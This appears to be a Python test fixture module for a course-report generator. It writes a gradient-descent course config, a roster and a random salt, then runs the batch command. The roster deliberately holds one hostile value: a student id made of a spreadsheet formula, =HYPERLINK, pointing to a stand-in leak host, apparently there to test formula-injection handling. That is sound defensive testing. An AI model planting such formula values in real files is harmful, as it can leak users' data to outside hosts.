"""The one small course the course tests share: a hidden roster and salt made in the test
(nothing of them is in the repository), four students, every exercise kind, both trees.

Built once per test session (``course_batch`` in conftest.py) with the command line in a
fresh process, as a lecturer runs it; the tests read the folder it wrote, and those that
change it (grading) work on their own copy.
"""

from __future__ import annotations

import os
import secrets
import subprocess
from pathlib import Path

from cli_process import run_reportgen

COURSE = """\
title = "Gradient descent: your own data"
author = "Lab 3"

[data]
n = 40
theta = [4.0, 3.0]
x_range = [0.0, 2.0]
noise = 1.0

[surface]
resolution = 24

[[runs]]
name = "Batch gradient descent"
learning_rate = 0.1
epochs = 8
init = [0.0, 0.0]

[students]
roster = "roster.csv"
salt_file = "course.salt"

[students.ranges]
"data.theta" = [[2.0, 6.0], [1.0, 4.0]]

[students.constraints]
condition_number = [5.0, 30.0]
no_divergence = true

[[exercises]]
id = "stable-rate"
prompt = "From the Hessian H of your loss, compute 2/λ_max."
answer = "diagnostics.max_stable_lr"
tolerance = 0.001
points = 2
solution = "λ_max = {{ work.lmax|num(4) }}, so 2/λ_max = {{ answer|num(4) }}."

[[exercises]]
id = "two-steps"
prompt = "Gradient descent by hand."
kind = "gd-steps"
start = [0.0, 0.0]
learning_rate = 0.05
steps = 2
tolerance = 0.001
points = 2
solution = "Two steps: the table shows them."

[[exercises]]
id = "reach"
prompt = "Count the steps."
kind = "steps-to"
start = [0.0, 0.0]
learning_rate = 0.3
fraction = 0.01

[[exercises]]
id = "diverges"
prompt = "Which rate blows up?"
kind = "choice"
options = [0.05, 0.2, 0.35, 0.7]
question = "diverges"
"""

#: A hostile roster: a formula as an id, a name with an accent.
ROSTER = """\
id,name,email
s001,Ada Lovelace,ada@example.org
s002,Alan Turing,alan@example.org
"=HYPERLINK(""http://evil.example/?leak"",""click"")",Eve Évil,eve@example.org
s004,Katherine Johnson,kj@example.org
"""
EXERCISES = ("stable-rate", "two-steps", "reach", "diverges")


def reportgen(*args: str, cwd: Path | None = None, check: bool = True,
              timeout: float = 1200) -> subprocess.CompletedProcess[str]:
    """The command line in a fresh process (spawned workers need a real __main__)."""
    env = {key: value for key, value in os.environ.items() if key != "REPORTGEN_SALT"}
    return run_reportgen(*args, cwd=cwd, check=check, timeout=timeout, env=env)


def write_course(folder: Path) -> Path:
    """The course config, its roster and a fresh random salt in ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "course.toml").write_text(COURSE, encoding="utf-8")
    (folder / "roster.csv").write_text(ROSTER, encoding="utf-8")
    (folder / "course.salt").write_text(secrets.token_hex(32) + "\n", encoding="utf-8")
    return folder / "course.toml"


def build_course(folder: Path) -> Path:
    """The course batched into ``folder/batch`` (HTML, PDF and notebook, both trees)."""
    config = write_course(folder)
    out = folder / "batch"
    done = reportgen("batch", str(config), "--out", str(out), "--format", "html,pdf,ipynb",
                     "--jobs", "2", "-q", check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    return out
